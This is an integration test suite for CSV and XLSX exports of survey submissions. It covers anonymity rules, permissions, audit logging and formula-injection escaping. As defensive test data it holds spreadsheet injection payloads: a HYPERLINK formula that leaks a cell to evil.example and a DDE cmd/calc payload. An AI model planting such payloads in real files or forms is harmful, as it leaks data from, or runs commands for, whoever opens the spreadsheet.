/**
 * Exports of an evaluation's submissions (CSV, XLSX), through HTTP on a real PostgreSQL.
 *
 * Submissions are seeded with SQL inserts into submission and answer, built as the respondent
 * API builds them: SurveyJS data filled through survey-core on the group's questionnaire (the
 * socle commun, plus the organization's own questions) and normalised by `normaliseAnswers`.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import ExcelJS from 'exceljs';
import type { Response } from 'supertest';
import { Model } from 'survey-core';
import {
  COMMENT_SUFFIX,
  DONT_KNOW_VALUE,
  normaliseAnswers,
  type AnonymityMode,
  type NormalisedAnswer,
  type Questionnaire,
  type StakeholderGroupKey,
  type SubmissionChannel,
} from '#domain';
import { startsLikeFormula } from '#domain/spreadsheet-cell';
import { fillSurvey } from '../../libs/domain/src/fixtures/fill-survey.js';
import { picker } from '../../libs/domain/src/fixtures/json-edit.js';
import { addMember, addOrganizationMember, createOrganization, createUser, createWorkspace, type TestUser } from '../support/factories.js';
import { startTestApp, type ApiClient, type TestApp } from '../support/test-app.js';
import { binaryBody as binary, parseCsv, type CsvField } from '../support/abuse.js';

const OPENS = '2026-05-04T08:00:00.000Z';
const CLOSES = '2026-06-30T21:59:59.000Z';
const HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?leak="&A2,"Cliquez ici")';
const HOSTILE_CHOICE = '@SUM(1+1)*cmd|" /C calc"!A0';
const CONFIDENTIAL_NAME = 'Camille Confidentielle';
const NAMED_NAME = 'Dominique Nommée';
const GROUPS: Array<{ groupKey: StakeholderGroupKey; anonymity: AnonymityMode }> = [
  { groupKey: 'self_assessment', anonymity: 'confidential' },
  { groupKey: 'staff', anonymity: 'anonymous' },
  { groupKey: 'board', anonymity: 'named' },
];

/** The organization's own questions: a hostile title on a quantity that may be negative, and a hostile choice label. */
const CUSTOM_QUESTIONS = [
  {
    dimensionKey: 'utilite_economique',
    indicator: {
      key: 'solde_tresorerie',
      title: { fr: 'Solde de trésorerie', en: 'Cash balance' },
      level: 'realisation',
      kind: 'quantity',
      quantity: { min: -1000, max: 1000, integer: false },
      scoring: { rule: 'none' },
      dontKnow: 'not_offered',
      questions: [
        {
          key: 'q_solde_tresorerie',
          audiences: ['self_assessment', 'staff'],
          wording: { self_assessment: { fr: HOSTILE_TITLE, en: HOSTILE_TITLE }, staff: { fr: 'Solde de votre caisse\u202f?', en: 'Your till balance?' } },
          required: false,
        },
      ],
    },
  },
  {
    dimensionKey: 'utilite_economique',
    indicator: {
      key: 'canal_prefere',
      title: { fr: 'Canal préféré', en: 'Preferred channel' },
      level: 'realisation',
      kind: 'single_choice',
      choices: [
        { value: 'formule', label: { fr: HOSTILE_CHOICE, en: HOSTILE_CHOICE } },
        { value: 'courrier', label: { fr: 'Courrier', en: 'Mail' } },
      ],
      scoring: { rule: 'none' },
      dontKnow: 'excluded',
      questions: [{ key: 'q_canal_prefere', audiences: ['staff'], wording: { staff: { fr: 'Quel canal préférez-vous\u202f?', en: 'Which channel do you prefer?' } }, required: false }],
    },
  },
];

async function readWorkbook(body: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  // exceljs declares its own Buffer type, narrower than Node's.
  await workbook.xlsx.load(body as unknown as Parameters<ExcelJS.Xlsx['load']>[0]);
  return workbook;
}

async function download(client: ApiClient, path: string): Promise<Response> {
  return client.agent.get(`/api/v1${path}`).buffer(true).parse(binary);
}

interface Csv {
  raw: string;
  header: string[];
  rows: CsvField[][];
  /** The value of a column in a row, by header. */
  cell(row: CsvField[], header: string): string;
}

function readCsv(body: Buffer, delimiter: string): Csv {
  const raw = body.subarray(3).toString('utf8');
  const [header, ...rows] = parseCsv(body, delimiter);
  const names = header!.map((field) => field.value);
  for (const row of rows) expect(row).toHaveLength(names.length);
  return {
    raw,
    header: names,
    rows,
    cell: (row, name) => {
      const index = names.indexOf(name);
      if (index < 0) throw new Error(`no column ${name} in ${names.join(' | ')}`);
      return row[index]!.value;
    },
  };
}

/** What a codes export must show for a question, from the normalised answers (independently of the export's code). */
function expectedCode(questionnaire: Questionnaire, answers: readonly NormalisedAnswer[], key: string): string {
  const question = questionnaire.questions.find((q) => q.key === key)!;
  const main = answers.filter((a) => a.questionKey === key && a.part === 'answer');
  if (main.length === 0) return '';
  if (main.some((a) => a.dontKnow)) return DONT_KNOW_VALUE;
  if (question.answer.kind === 'multiple_choice') return main.map((a) => a.choiceValue).join('; ');
  const [answer] = main;
  return answer!.numericValue !== null ? String(answer!.numericValue) : (answer!.choiceValue ?? answer!.textValue!);
}

describe('exports', () => {
  let t: TestApp;
  let facilitator: TestUser;
  let viewer: TestUser;
  let contact: TestUser;
  let outsider: TestUser;
  let workspaceId: string;
  let organizationId: string;
  let base: string;
  let versionId: string;
  let evaluationId: string;
  const questionnaires = new Map<StakeholderGroupKey, Questionnaire>();
  const seeded: Array<{ id: string; groupKey: StakeholderGroupKey; answers: NormalisedAnswer[] }> = [];
  let craftedId: string;
  let excludedId: string;
  let partialId: string;

  async function createEvaluation(title: string, groups = GROUPS, customQuestions: unknown[] = []): Promise<string> {
    const created = await facilitator.client.post(base, {
      frameworkVersionId: versionId,
      title,
      opensAt: OPENS,
      closesAt: CLOSES,
      groups: groups.map((g) => ({ ...g, expectedCount: 10 })),
    });
    expect(created.status).toBe(201);
    const id = (created.body as { id: string }).id;
    if (customQuestions.length > 0) {
      // The organization's own questions are added while the evaluation is a draft, as the contact does.
      const patched = await contact.client.patch(`${base}/${id}`, { customQuestions });
      expect({ status: patched.status, body: patched.status === 200 ? null : (patched.body as unknown) }).toEqual({ status: 200, body: null });
    }
    expect((await facilitator.client.post(`${base}/${id}/transitions`, { to: 'collecting' })).status).toBe(200);
    return id;
  }

  async function questionnaire(id: string, groupKey: StakeholderGroupKey): Promise<Questionnaire> {
    const res = await facilitator.client.get(`${base}/${id}/questionnaires/${groupKey}?locale=fr`);
    expect(res.status).toBe(200);
    return res.body as Questionnaire;
  }

  /** Inserts a submission and its normalised answer rows, as the respondent API stores them. */
  async function seed(
    id: string,
    groupKey: StakeholderGroupKey,
    data: Record<string, unknown>,
    extra: { channel?: SubmissionChannel; status?: 'partial' | 'submitted'; submittedAt?: string; respondentName?: string; exclusionReason?: string } = {},
  ): Promise<{ id: string; answers: NormalisedAnswer[] }> {
    const result = normaliseAnswers(questionnaires.get(groupKey)!, data, { checkRequired: false });
    if (!result.ok) throw new Error(JSON.stringify(result.errors));
    const status = extra.status ?? 'submitted';
    const at = extra.submittedAt ?? '2026-05-12T14:37:21.123456Z';
    const rows = await t.dataSource.query<Array<{ id: string }>>(
      `INSERT INTO submission (workspace_id, evaluation_id, group_key, client_id, channel, status, locale, data, respondent_name,
                               started_at, updated_at, submitted_at, excluded_at, exclusion_reason)
       VALUES ($1, $2, $3, gen_random_uuid(), $4, $5, 'fr', $6, $7, $8, $8, $9, $10, $11)
       RETURNING id`,
      [
        workspaceId,
        id,
        groupKey,
        extra.channel ?? 'shared',
        status,
        JSON.stringify(data),
        extra.respondentName ?? null,
        at,
        status === 'submitted' ? at : null,
        extra.exclusionReason ? at : null,
        extra.exclusionReason ?? null,
      ],
    );
    const submissionId = rows[0]!.id;
    await t.dataSource.query(
      `INSERT INTO answer (submission_id, workspace_id, evaluation_id, group_key, question_key, indicator_key, part, numeric_value, choice_value, text_value, dont_know)
       SELECT $1, $2, $3, $4, r."questionKey", r."indicatorKey", r.part, r."numericValue", r."choiceValue", r."textValue", r."dontKnow"
         FROM jsonb_to_recordset($5::jsonb) AS r("questionKey" text, "indicatorKey" text, part text, "numericValue" float8, "choiceValue" text, "textValue" text, "dontKnow" boolean)`,
      [submissionId, workspaceId, id, groupKey, JSON.stringify(result.answers)],
    );
    return { id: submissionId, answers: result.answers };
  }

  function exportPath(id: string, format: 'csv' | 'xlsx', query = ''): string {
    return `${base}/${id}/exports/submissions.${format}${query ? `?${query}` : ''}`;
  }

  beforeAll(async () => {
    t = await startTestApp({ LOGIN_MAX_ATTEMPTS_PER_IP: '100000' });
    const admin = await createUser(t);
    workspaceId = await createWorkspace(t, admin, 'Réseau des exports');
    organizationId = await createOrganization(t, workspaceId, 'La Ressourcerie « du Vallon »');
    facilitator = await createUser(t);
    await addMember(t, workspaceId, facilitator, 'facilitator');
    viewer = await createUser(t);
    await addMember(t, workspaceId, viewer, 'viewer');
    contact = await createUser(t);
    await addOrganizationMember(t, workspaceId, organizationId, contact, 'contact');
    outsider = await createUser(t);
    await createWorkspace(t, outsider, 'Réseau voisin');
    base = `/workspaces/${workspaceId}/organizations/${organizationId}/evaluations`;

    const frameworks = await admin.client.get(`/workspaces/${workspaceId}/frameworks`);
    versionId = (frameworks.body as Array<{ builtinKey: string | null; latestPublished: { id: string } }>).find((f) => f.builtinKey === 'socle-commun')!.latestPublished.id;

    evaluationId = await createEvaluation('Évaluation 2026 : regards croisés', GROUPS, CUSTOM_QUESTIONS);
    for (const { groupKey } of GROUPS) questionnaires.set(groupKey, await questionnaire(evaluationId, groupKey));

    // Three respondents per group, answering through survey-core as the browser does.
    let minute = 0;
    for (const [g, { groupKey }] of GROUPS.entries()) {
      const model = new Model(questionnaires.get(groupKey)!.survey);
      for (let n = 0; n < 3; n += 1) {
        model.clear(true, true);
        fillSurvey(model, picker([n + 1, 7, 3, n * 5 + 2, 11, 4, 9, 1, 6, n]));
        minute += 1;
        const data = JSON.parse(JSON.stringify(model.data)) as Record<string, unknown>;
        const at = `2026-05-1${g}T09:${String(minute).padStart(2, '0')}:00.5${n}Z`;
        const name = groupKey === 'self_assessment' ? CONFIDENTIAL_NAME : groupKey === 'board' ? `${NAMED_NAME} ${n}` : undefined;
        const { id, answers } = await seed(evaluationId, groupKey, data, { submittedAt: at, respondentName: name });
        seeded.push({ id, groupKey, answers });
      }
    }
    // A staff member whose answers try formula injection, and who uses "je ne sais pas" and several choices.
    const crafted = await seed(
      evaluationId,
      'staff',
      {
        q_reponse_besoins: 4,
        [`q_reponse_besoins${COMMENT_SUFFIX}`]: '=1+1 parce que',
        q_mesures_accessibilite: ['langage_clair', 'tarifs'],
        q_objectifs_ecologiques: 'dont_know',
        q_recit_initiative: '-2 bénévoles\r\n@toutes et tous',
        q_solde_tresorerie: -12.5,
        q_canal_prefere: 'formule',
      },
      { channel: 'kiosk', submittedAt: '2026-05-20T17:45:12.345678Z' },
    );
    craftedId = crafted.id;
    seeded.push({ id: crafted.id, groupKey: 'staff', answers: crafted.answers });
    excludedId = (await seed(evaluationId, 'board', { q_reponse_besoins: 2 }, { respondentName: 'Exclu·e', exclusionReason: '+saisi deux fois', submittedAt: '2026-05-21T08:00:00Z' })).id;
    partialId = (await seed(evaluationId, 'staff', { q_reponse_besoins: 1 }, { status: 'partial' })).id;
  });
  afterAll(async () => {
    await t.close();
  });

  it('exports one row per submitted submission as a French CSV: BOM, semicolons, CRLF, labels, numbers unquoted', async () => {
    const res = await download(facilitator.client, exportPath(evaluationId, 'csv'));
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="la-ressourcerie-du-vallon-evaluation-2026-regards-croises-\d{4}-\d{2}-\d{2}\.csv"; filename\*=UTF-8''La%20Ressourcerie%20%C2%AB%20du%20Vallon%20%C2%BB%20%E2%80%93%20/,
    );
    const csv = readCsv(res.body as Buffer, ';');
    expect(csv.header.slice(0, 5)).toEqual(['Identifiant de la réponse', 'Groupe', 'Canal', 'Envoyée le (UTC)', 'Nom (groupe nominatif)']);
    expect(csv.header).not.toContain('Exclue');

    // Submitted only: no partial, no excluded one; in submission order.
    const ids = csv.rows.map((row) => csv.cell(row, 'Identifiant de la réponse'));
    expect(ids).toEqual(seeded.map((s) => s.id));
    expect(ids).not.toContain(partialId);
    expect(ids).not.toContain(excludedId);

    const crafted = csv.rows.find((row) => row[0]!.value === craftedId)!;
    // A column is titled with the wording of the first group (in display order) that is asked the question.
    const titleOf = (key: string) => {
      const element = GROUPS.flatMap(({ groupKey }) => questionnaires.get(groupKey)!.survey.pages.flatMap((p) => p.elements)).find((e) => e.name === key)!;
      return { title: element.title.fr, choices: 'choices' in element ? element.choices : [] };
    };
    const besoins = titleOf('q_reponse_besoins');
    const accessibility = titleOf('q_mesures_accessibilite');
    const label = (choices: typeof accessibility.choices, value: string) => choices.find((c) => c.value === value)!.text.fr;
    expect(csv.cell(crafted, 'Groupe')).toBe('Salarié·es');
    expect(csv.cell(crafted, 'Canal')).toBe('Tablette partagée');
    expect(csv.cell(crafted, besoins.title)).toBe('4');
    expect(csv.cell(crafted, `${besoins.title} — Pourquoi\u202f?`)).toBe("'=1+1 parce que");
    expect(csv.cell(crafted, accessibility.title)).toBe(`${label(accessibility.choices, 'tarifs')}; ${label(accessibility.choices, 'langage_clair')}`);
    expect(csv.cell(crafted, titleOf('q_objectifs_ecologiques').title)).toBe('Je ne sais pas');
    expect(csv.cell(crafted, titleOf('q_canal_prefere').title)).toBe(`'${HOSTILE_CHOICE}`);
    // The custom question is asked of the self-assessment first: its (hostile) wording heads the column.
    expect(csv.cell(crafted, `'${HOSTILE_TITLE}`)).toBe('-12,5');
    const amount = crafted[csv.header.indexOf(`'${HOSTILE_TITLE}`)]!;
    expect(amount).toEqual({ value: '-12,5', quoted: false });
    expect(crafted[csv.header.indexOf(besoins.title)]).toEqual({ value: '4', quoted: false });
    // Every field is an unquoted number, or an empty or quoted text that does not start like a formula (headers included).
    for (const row of [csv.header.map((value) => ({ value, quoted: true })), ...csv.rows]) {
      for (const field of row) {
        if (!field.quoted && /^-?\d+(,\d+)?$/.test(field.value)) continue;
        expect(startsLikeFormula(field.value)).toBe(false);
        expect(field.quoted || field.value === '').toBe(true);
      }
    }
  });

  it('exports no identifying field for anonymous groups, no name for confidential ones, the name for named ones', async () => {
    const csv = readCsv((await download(facilitator.client, exportPath(evaluationId, 'csv', 'codes=true&locale=en'))).body as Buffer, ',');
    expect(csv.raw).not.toContain(CONFIDENTIAL_NAME);
    for (const row of csv.rows) {
      const group = csv.cell(row, 'group');
      const submittedAt = csv.cell(row, 'submitted_at');
      if (group === 'staff') {
        expect(submittedAt).toMatch(/^\d{4}-\d{2}-\d{2}$/);
        expect(csv.cell(row, 'respondent_name')).toBe('');
      } else {
        expect(submittedAt).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/);
        expect(csv.cell(row, 'respondent_name')).toEqual(group === 'board' ? expect.stringContaining(NAMED_NAME) : '');
      }
    }
    expect(csv.cell(csv.rows.find((row) => row[0]!.value === craftedId)!, 'submitted_at')).toBe('2026-05-20');
    // Only the named group's names, one per named submission.
    expect(csv.rows.filter((row) => csv.cell(row, 'respondent_name') !== '').map((row) => csv.cell(row, 'group'))).toEqual(['board', 'board', 'board']);

    // An export of the anonymous group alone has no name column at all.
    const staff = readCsv((await download(facilitator.client, exportPath(evaluationId, 'csv', 'codes=true&groupKey=staff'))).body as Buffer, ';');
    expect(staff.header.slice(0, 5)).toEqual(['submission_id', 'group', 'channel', 'submitted_at', 'q_reponse_besoins']);
    expect(new Set(staff.rows.map((row) => staff.cell(row, 'group')))).toEqual(new Set(['staff']));
  });

  it('exports codes: question keys as headers, choice values, dont_know, with English separators', async () => {
    const res = await download(facilitator.client, exportPath(evaluationId, 'csv', 'locale=en&codes=true&groupKey='));
    expect(res.status).toBe(200);
    const csv = readCsv(res.body as Buffer, ',');
    const keys = [...new Set(GROUPS.flatMap(({ groupKey }) => questionnaires.get(groupKey)!.questions.map((q) => q.key)))];
    for (const key of keys) expect(csv.header).toContain(key);
    expect(csv.header).toContain(`q_reponse_besoins${COMMENT_SUFFIX}`);
    expect(csv.header.filter((h) => h === 'q_reponse_besoins')).toHaveLength(1);
    // Every seeded answer is in its cell, as the normalised rows say.
    for (const { id, groupKey, answers } of seeded) {
      const row = csv.rows.find((r) => r[0]!.value === id)!;
      for (const question of questionnaires.get(groupKey)!.questions) {
        const expected = expectedCode(questionnaires.get(groupKey)!, answers, question.key);
        const isNumber = answers.some((a) => a.questionKey === question.key && a.numericValue !== null);
        // Texts that start like a formula carry the apostrophe; numbers never do.
        const shown = isNumber || !startsLikeFormula(expected) ? expected : `'${expected}`;
        expect({ id, key: question.key, cell: csv.cell(row, question.key) }).toEqual({ id, key: question.key, cell: shown });
        if (question.why) {
          const why = answers.find((a) => a.questionKey === question.key && a.part === 'why')?.textValue ?? '';
          expect(csv.cell(row, question.key + COMMENT_SUFFIX).replace(/^'/, '')).toBe(why);
        }
      }
    }
    const crafted = csv.rows.find((row) => row[0]!.value === craftedId)!;
    expect(csv.cell(crafted, 'q_mesures_accessibilite')).toBe('tarifs; langage_clair');
    expect(csv.cell(crafted, 'q_objectifs_ecologiques')).toBe('dont_know');
    expect(crafted[csv.header.indexOf('q_solde_tresorerie')]).toEqual({ value: '-12.5', quoted: false });
    expect(csv.cell(crafted, 'q_recit_initiative')).toBe("'-2 bénévoles\r\n@toutes et tous");
  });

  it('adds excluded submissions with their reason only when asked', async () => {
    const csv = readCsv((await download(facilitator.client, exportPath(evaluationId, 'csv', 'includeExcluded=true'))).body as Buffer, ';');
    expect(csv.header.slice(4, 7)).toEqual(['Nom (groupe nominatif)', 'Exclue', 'Motif d’exclusion']);
    const excluded = csv.rows.find((row) => row[0]!.value === excludedId)!;
    expect(csv.cell(excluded, 'Exclue')).toBe('Oui');
    expect(csv.cell(excluded, 'Motif d’exclusion')).toBe("'+saisi deux fois");
    expect(csv.rows).toHaveLength(seeded.length + 1);
    expect(csv.rows.filter((row) => csv.cell(row, 'Exclue') === 'Non')).toHaveLength(seeded.length);
    expect(csv.rows.map((row) => row[0]!.value)).not.toContain(partialId);
  });

  it('exports an XLSX whose numbers are numeric cells, dates date cells, texts neutralised, with a frozen header and a Questions sheet', async () => {
    const res = await download(facilitator.client, exportPath(evaluationId, 'xlsx', 'locale=en'));
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="la-ressourcerie-du-vallon-evaluation-2026-regards-croises-\d{4}-\d{2}-\d{2}\.xlsx"; filename\*=UTF-8''/);
    const workbook = await readWorkbook(res.body as Buffer);
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Submissions', 'Questions']);
    const sheet = workbook.getWorksheet('Submissions')!;
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.getColumn(1).width).toBe(38);
    expect(sheet.rowCount).toBe(seeded.length + 1);
    const header = (sheet.getRow(1).values as unknown[]).slice(1) as string[];
    expect(sheet.getRow(1).font?.bold).toBe(true);
    expect(header).toContain(`'${HOSTILE_TITLE}`);

    const rowOf = (id: string) => {
      for (let n = 2; n <= sheet.rowCount; n += 1) if (sheet.getRow(n).getCell(1).value === id) return sheet.getRow(n);
      throw new Error(`no row ${id}`);
    };
    const crafted = rowOf(craftedId);
    const cell = (name: string) => crafted.getCell(header.indexOf(name) + 1);
    expect(cell(`'${HOSTILE_TITLE}`).type).toBe(ExcelJS.ValueType.Number);
    expect(cell(`'${HOSTILE_TITLE}`).value).toBe(-12.5);
    const besoins = questionnaires.get('self_assessment')!.survey.pages.flatMap((p) => p.elements).find((e) => e.name === 'q_reponse_besoins')!.title.en;
    expect(cell(besoins).type).toBe(ExcelJS.ValueType.Number);
    expect(cell(besoins).value).toBe(4);
    expect(cell(`${besoins} — Why?`).value).toBe("'=1+1 parce que");
    expect(cell('Submitted (UTC)').type).toBe(ExcelJS.ValueType.Date);
    // Anonymous: midnight UTC of the day, nothing finer.
    expect(cell('Submitted (UTC)').value).toEqual(new Date('2026-05-20T00:00:00Z'));
    expect(cell('Submitted (UTC)').numFmt).toBe('yyyy-mm-dd');
    const named = rowOf(seeded.find((s) => s.groupKey === 'board')!.id);
    expect(named.getCell(header.indexOf('Submitted (UTC)') + 1).value).toEqual(new Date('2026-05-12T09:07:00.5Z'));
    expect(named.getCell(header.indexOf('Name (named group)') + 1).value).toBe(`${NAMED_NAME} 0`);

    for (const ws of workbook.worksheets) {
      ws.eachRow((row) => {
        row.eachCell((c) => {
          expect([ExcelJS.ValueType.Number, ExcelJS.ValueType.String, ExcelJS.ValueType.Date]).toContain(c.type);
          if (typeof c.value === 'string') expect(startsLikeFormula(c.value)).toBe(false);
          expect(c.value).not.toBe(CONFIDENTIAL_NAME);
        });
      });
    }
    const questions = workbook.getWorksheet('Questions')!;
    expect((questions.getRow(1).values as unknown[]).slice(1, 8)).toEqual(['Key', 'Question', 'Groups asked', 'Indicator key', 'Indicator', 'Dimension key', 'Dimension']);
    const custom = questions.getRows(2, questions.rowCount - 1)!.find((row) => row.getCell(1).value === 'q_solde_tresorerie')!;
    expect((custom.values as unknown[]).slice(1, 8)).toEqual([
      'q_solde_tresorerie',
      `'${HOSTILE_TITLE}`,
      'Organization self-assessment; Staff',
      'solde_tresorerie',
      'Cash balance',
      'utilite_economique',
      expect.any(String),
    ]);
    expect(questions.rowCount - 1).toBe(header.filter((h, i) => i >= 5 && !h.endsWith(' — Why?')).length);
  });

  it('exports only the header when the evaluation has no submission', async () => {
    const empty = await createEvaluation('Évaluation sans réponse', [{ groupKey: 'staff', anonymity: 'anonymous' }]);
    const csv = readCsv((await download(facilitator.client, exportPath(empty, 'csv'))).body as Buffer, ';');
    expect(csv.rows).toEqual([]);
    expect(csv.header.slice(0, 4)).toEqual(['Identifiant de la réponse', 'Groupe', 'Canal', 'Envoyée le (UTC)']);
    const workbook = await readWorkbook((await download(facilitator.client, exportPath(empty, 'xlsx'))).body as Buffer);
    expect(workbook.getWorksheet('Réponses')!.rowCount).toBe(1);
    expect(workbook.getWorksheet('Questions')!.rowCount).toBeGreaterThan(1);
  });

  it('streams across batches in submission order, each submission once, even with equal times', async () => {
    const big = await createEvaluation('Évaluation volumineuse', [{ groupKey: 'staff', anonymity: 'anonymous' }]);
    // 1,234 submissions over few distinct instants (microseconds apart), so batches end inside runs of equal times.
    await t.dataSource.query(
      `WITH s AS (
         INSERT INTO submission (workspace_id, evaluation_id, group_key, client_id, channel, status, locale, data, started_at, updated_at, submitted_at)
         SELECT $1, $2, 'staff', gen_random_uuid(), 'shared', CASE WHEN i % 100 = 0 THEN 'partial' ELSE 'submitted' END, 'fr', jsonb_build_object('q_reponse_besoins', 1 + i % 5),
                now(), now(), CASE WHEN i % 100 = 0 THEN NULL ELSE timestamptz '2026-05-12 10:00:00+00' + (i % 7) * interval '1 microsecond' END
           FROM generate_series(1, 1247) AS i
         RETURNING id, data)
       INSERT INTO answer (submission_id, workspace_id, evaluation_id, group_key, question_key, indicator_key, part, numeric_value)
       SELECT s.id, $1, $2, 'staff', 'q_reponse_besoins', 'reponse_besoins', 'answer', (s.data->>'q_reponse_besoins')::float8 FROM s`,
      [workspaceId, big],
    );
    const expected = await t.dataSource.query<Array<{ id: string; value: number }>>(
      `SELECT s.id, a.numeric_value AS value FROM submission s JOIN answer a ON a.submission_id = s.id
        WHERE s.evaluation_id = $1 AND s.status = 'submitted' ORDER BY s.submitted_at, s.id`,
      [big],
    );
    expect(expected).toHaveLength(1235);
    for (const format of ['csv', 'xlsx'] as const) {
      const res = await download(facilitator.client, exportPath(big, format, 'codes=true&locale=en'));
      expect(res.status).toBe(200);
      let rows: Array<{ id: string; value: unknown }>;
      if (format === 'csv') {
        const csv = readCsv(res.body as Buffer, ',');
        rows = csv.rows.map((row) => ({ id: csv.cell(row, 'submission_id'), value: Number(csv.cell(row, 'q_reponse_besoins')) }));
      } else {
        const workbook = await readWorkbook(res.body as Buffer);
        const sheet = workbook.getWorksheet('Submissions')!;
        const column = (sheet.getRow(1).values as unknown[]).indexOf('q_reponse_besoins');
        rows = sheet.getRows(2, sheet.rowCount - 1)!.map((row) => ({ id: row.getCell(1).value as string, value: row.getCell(column).value }));
      }
      expect(rows).toEqual(expected);
    }
  });

  it('refuses bad parameters with 400 naming the parameter', async () => {
    for (const [query, path] of [
      ['locale=de', 'locale'],
      ['codes=yes', 'codes'],
      ['includeExcluded=1', 'includeExcluded'],
      ['groupKey=nobody', 'groupKey'],
      ['groupKey=partners', 'groupKey'],
      ['locale=fr&locale=en', 'locale'],
      ['format=pdf', 'format'],
    ] as const) {
      const res = await facilitator.client.get(exportPath(evaluationId, 'csv', query));
      expect({ query, status: res.status, type: res.headers['content-type'] }).toEqual({ query, status: 400, type: expect.stringContaining('application/problem+json') });
      expect(res.headers['content-disposition']).toBeUndefined();
      expect((res.body as { errors: Array<{ path: string }> }).errors.map((e) => e.path)).toEqual([path]);
    }
    const partners = await facilitator.client.get(exportPath(evaluationId, 'xlsx', 'groupKey=partners'));
    expect((partners.body as { errors: Array<{ message: string }> }).errors[0]!.message).toContain('self_assessment, staff, board');
    expect((await facilitator.client.get(`${base}/not-a-uuid/exports/submissions.csv`)).status).toBe(400);
    expect((await facilitator.client.get(`${base}/${evaluationId}/exports/submissions.pdf`)).status).toBe(404);
  });

  it('lets facilitators only export: viewers are refused, contacts and other networks see nothing, and each export is audited', async () => {
    const before = await t.dataSource.query<Array<{ n: number }>>(`SELECT count(*)::int AS n FROM audit_event WHERE action = 'evaluation.exported'`);
    expect((await viewer.client.get(exportPath(evaluationId, 'csv'))).status).toBe(403);
    expect((await contact.client.get(exportPath(evaluationId, 'xlsx'))).status).toBe(404);
    expect((await outsider.client.get(exportPath(evaluationId, 'csv'))).status).toBe(404);
    expect((await t.client().get(exportPath(evaluationId, 'csv'))).status).toBe(401);
    const unknown = await facilitator.client.get(`${base}/00000000-0000-4000-8000-000000000000/exports/submissions.csv`);
    expect(unknown.status).toBe(404);
    const refused = await t.dataSource.query<Array<{ n: number }>>(`SELECT count(*)::int AS n FROM audit_event WHERE action = 'evaluation.exported'`);
    expect(refused[0]!.n).toBe(before[0]!.n);

    expect((await download(facilitator.client, exportPath(evaluationId, 'xlsx', 'locale=en&codes=true&groupKey=board&includeExcluded=true'))).status).toBe(200);
    const audit = await t.dataSource.query<Array<{ actor_user_id: string; workspace_id: string; data: Record<string, unknown> }>>(
      `SELECT actor_user_id, workspace_id, data FROM audit_event WHERE action = 'evaluation.exported' AND target_type = 'evaluation' AND target_id = $1 ORDER BY created_at DESC, id DESC LIMIT 1`,
      [evaluationId],
    );
    expect(audit[0]).toEqual({
      actor_user_id: facilitator.id,
      workspace_id: workspaceId,
      data: { organizationId, format: 'xlsx', locale: 'en', codes: true, groupKey: 'board', includeExcluded: true, rowCount: 4, completed: true },
    });
  });
});
